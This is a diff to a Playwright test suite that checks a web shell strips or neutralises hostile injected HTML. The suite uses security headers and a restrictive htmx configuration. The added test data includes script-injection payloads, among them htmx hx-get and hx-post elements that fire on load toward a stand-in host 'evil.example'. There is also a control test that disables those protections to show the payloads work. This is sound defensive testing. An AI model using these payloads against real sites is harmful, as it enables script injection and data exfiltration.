@@ -8,8 +8,12 @@ from playwright.sync_api import Page, Route
 from shell.composition.contain import Contained, Refused
 from shell.composition.contain.links import Isolation
 from shell.security import header_list
-from tests.contain_browser import ISOLATIONS, ORIGIN, Judge, page_of, put
+from tests.contain_browser import ISOLATIONS, ORIGIN, STATIC, Judge, page_of, put
 from tests.corpus.hostile.bodies import Body
+
+HTMX = next((STATIC / "vendor").glob("htmx-*.js"))
+TEMPLATE = STATIC.parent / "shell" / "pages" / "templates" / "page.html"
+CONFIG = re.search(r'<meta name="htmx-config".*>', TEMPLATE.read_text())[0]  # type: ignore[index]
 
 CLOSE = "</template></fragment-slot></page-layout></main></body></html>"
 LEFT_OPEN = {
@@ -46,6 +50,8 @@ INLINE = {
     "form": '<form action="javascript:ran()"><button id="press">in</button></form>',
     "frame": '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
     "hx-on": '<div hx-on:load="ran()" hx-on:click="ran()" id="press">in</div>',
+    "hx-get": '<button hx-get="https://evil.example/x" hx-trigger="load, click" id="press">in</button>',
+    "hx-post": '<form hx-post="https://evil.example/x" hx-trigger="load, submit"><button id="press">in</button></form>',
     "style": "<style>header, footer { display: none }</style>",
     "style attribute": '<div style="position: fixed; inset: 0; z-index: 9">in</div>',
     "stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
@@ -111,26 +117,49 @@ def test_inline_code_and_foreign_targets_are_removed(judge: Judge, isolation: Is
     assert judge.reached_out == []
 
 
-@pytest.mark.parametrize("name", INLINE)
-def test_inline_code_that_slipped_through_is_inert(page: Page, name: str) -> None:
-    """Under the shell's own headers the same bodies, put in as they are, run and reach nothing."""
+def open_raw(page: Page, body: str, config: str, headers: dict[str, str]) -> list[str]:
+    """The page with `body` put in as it is and htmx on it, pressed if it can be; what was asked for."""
     asked: list[str] = []
-    html = page_of([INLINE[name]], "light", dressed=False)
+    html = page_of([body], "light", dressed=False)
+    html = html.replace("</head>", f'{config}<script src="/static/{HTMX.name}"></script></head>', 1)
+    html = html.replace("</header>", '<button id="own" hx-get="/own" hx-swap="none">own</button></header>', 1)
 
     def answer(route: Route) -> None:
         asked.append(route.request.url)
         if route.request.url == f"{ORIGIN}/":
-            route.fulfill(body=html, content_type="text/html", headers=dict(header_list()))
+            route.fulfill(body=html, content_type="text/html", headers=headers)
+        elif route.request.url.startswith(f"{ORIGIN}/static/"):
+            route.fulfill(path=HTMX, content_type="text/javascript")
         else:
-            route.fulfill(status=404, body="")
+            route.fulfill(status=404, body="", headers={"access-control-allow-origin": "*"})
 
     page.add_init_script("window.times = 0; window.ran = () => { top.times += 1 }")
     page.route("**/*", answer)
     page.goto(f"{ORIGIN}/")
+    for _ in range(200):  # until htmx is at work, or nothing here would prove anything
+        page.locator("#own").dispatch_event("click")
+        page.wait_for_timeout(50)
+        if f"{ORIGIN}/own" in asked:
+            break
+    assert f"{ORIGIN}/own" in asked
     if 'id="press"' in html:
         page.evaluate("document.getElementById('press').click()")
     page.wait_for_timeout(100)
+    return [url for url in asked if "evil" in url]
+
+
+@pytest.mark.parametrize("name", INLINE)
+def test_inline_code_that_slipped_through_is_inert(page: Page, name: str) -> None:
+    """Under the shell's own headers and its word to htmx the same bodies, put in as they are, run and reach nothing."""
+    assert open_raw(page, INLINE[name], CONFIG, dict(header_list())) == []
     assert page.url == f"{ORIGIN}/"
     assert page.evaluate("[window.times, getComputedStyle(document.querySelector('header')).display]") == [0, "block"]
     assert page.evaluate("document.elementFromPoint(20, 20).closest('header') !== null")
-    assert [url for url in asked if "evil" in url] == []
+
+
+@pytest.mark.parametrize("name", ["handler", "hx-on", "hx-get", "hx-post"])
+def test_same_code_works_where_nothing_forbids_it(page: Page, name: str) -> None:
+    """The row is worth its test: without those headers and that word it runs, or reaches another origin."""
+    lax = """<meta name="htmx-config" content='{"selfRequestsOnly": false}'>"""
+    reached = open_raw(page, INLINE[name], lax, {})
+    assert reached or page.evaluate("window.times") > 0
